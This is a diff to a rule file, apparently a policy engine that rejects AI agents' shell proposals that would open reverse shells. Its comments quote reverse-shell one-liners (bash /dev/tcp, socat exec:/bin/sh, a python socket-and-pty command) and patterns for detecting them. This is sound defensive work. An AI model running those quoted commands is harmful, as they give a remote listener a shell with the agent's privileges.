@@ -3,9 +3,9 @@
 ;;; A reverse shell gives whoever listens at the other end the agent's privileges without
 ;;; any further proposal passing the rules. Every form below is rejected outright.
 
-;; TRUE for an interpreter whose inline code (-c/-e/-r) could open a socket.
-(deffunction revshell-interpreter-p (?p)
-  (regex-match "^(python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|node|nodejs|lua[0-9.]*)$" ?p))
+;; Interpreters whose inline code (-c/-e/-r) could open a socket.
+(defglobal ?*revshell-interpreters* =
+  (create$ "python" "python2" "python3" "python3.8" "python3.9" "python3.10" "python3.11" "python3.12" "python3.13" "pypy" "pypy3" "perl" "ruby" "php" "node" "nodejs" "lua" "luajit"))
 
 ;; TRUE for inline code that opens a socket and connects it or attaches a pty/shell to it.
 (deffunction revshell-socket-code-p (?code)
@@ -40,13 +40,15 @@
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp)
                     (reason (str-cat "redirect to a network socket: " ?t)))))
 
-;; Stops bash network pseudo-devices used as plain operands (`cat < x > /dev/tcp/…` is
-;; covered above; `cat /dev/tcp/h/p`, `tee /dev/tcp/h/p` here).
-(defrule shell-reverse-shell-dev-tcp-operand
-  (shell-command (proposal ?id) (argv $? ?a&:(revshell-dev-net-p ?a) $?))
+;; Stops any other use of bash's network pseudo-devices (`cat /dev/tcp/h/p`,
+;; `tee /dev/udp/h/p`, `exec 3<>/dev/tcp/h/p`): matched on the raw command text through the
+;; pattern index, so no spelling of the redirect or operand escapes it.
+(defrule shell-reverse-shell-dev-tcp-text
+  (pattern-hit (proposal ?id) (key "payload.command") (kind regex) (pattern "/dev/+(tcp|udp)/"))
+  (proposal (id ?id) (target shell))
   =>
-  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp-operand)
-                    (reason (str-cat "network socket as a file: " ?a)))))
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp-text)
+                    (reason "command uses a bash network socket (/dev/tcp, /dev/udp)"))))
 
 ;; Stops `socat tcp:h:4444 exec:/bin/sh,pty,stderr` and `socat … system:bash`: socat
 ;; executing a program on a connection is a reverse shell.
@@ -60,7 +62,8 @@
 ;; Stops `python -c 'import socket,pty,os;s=socket.socket();s.connect((h,p));pty.spawn("sh")'`
 ;; and the perl/ruby/php/node equivalents: inline code that opens a socket and connects it.
 (defrule shell-reverse-shell-inline-socket
-  (shell-command (proposal ?id) (program ?p&:(revshell-interpreter-p ?p))
+  (shell-command (proposal ?id)
+                 (program ?p&:(member$ ?p ?*revshell-interpreters*))
                  (argv $? ?a&:(revshell-socket-code-p ?a) $?))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-inline-socket)
